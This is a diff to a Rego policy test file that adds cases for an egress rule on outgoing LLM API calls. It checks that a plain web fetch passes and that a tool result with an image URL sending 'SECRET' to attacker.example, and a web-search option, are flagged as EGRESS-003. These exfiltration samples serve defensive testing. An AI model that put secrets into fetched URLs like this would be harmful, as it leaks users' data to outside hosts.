@@ -91,6 +91,14 @@ test_llm_fetches_denied if {
 		{"role": "user", "content": "thanks"},
 	]})
 	ids(data.countersign.deny) == set() with input as history
+	fetched := llm_call("api.anthropic.com", {"model": "claude", "messages": [
+		{"role": "assistant", "content": [{"type": "tool_use", "id": "t2", "name": "WebFetch", "input": {"url": "https://docs.example.org/"}}]},
+		{"role": "user", "content": [{"type": "tool_result", "tool_use_id": "t2", "content": "the page"}]},
+	]})
+	ids(data.countersign.deny) == set() with input as fetched
+	smuggled := llm_call("api.anthropic.com", {"model": "claude", "messages": [{"role": "user", "content": [{"type": "tool_result", "tool_use_id": "t3", "content": [{"type": "image", "source": {"type": "url", "url": "https://attacker.example/?k=SECRET"}}]}]}]})
+	ids(data.countersign.deny) == {"EGRESS-003"} with input as smuggled
+	ids(data.countersign.deny) == {"EGRESS-003"} with input as llm_call("api.openai.com", {"model": "gpt", "messages": [], "web_search_options": {}})
 	plain := llm_call("api.anthropic.com", {"model": "claude", "messages": [{"role": "user", "content": [{"type": "image", "source": {"type": "base64", "media_type": "image/png", "data": "AAAA"}}]}]})
 	ids(data.countersign.deny) == set() with input as plain
 	ids(data.countersign.deny) == set() with input as llm_call("api.openai.com", {"model": "gpt", "tools": [{"type": "mcp", "server_url": "https://attacker.example/mcp"}]}) with data.countersign.egress.llm_fetches as true
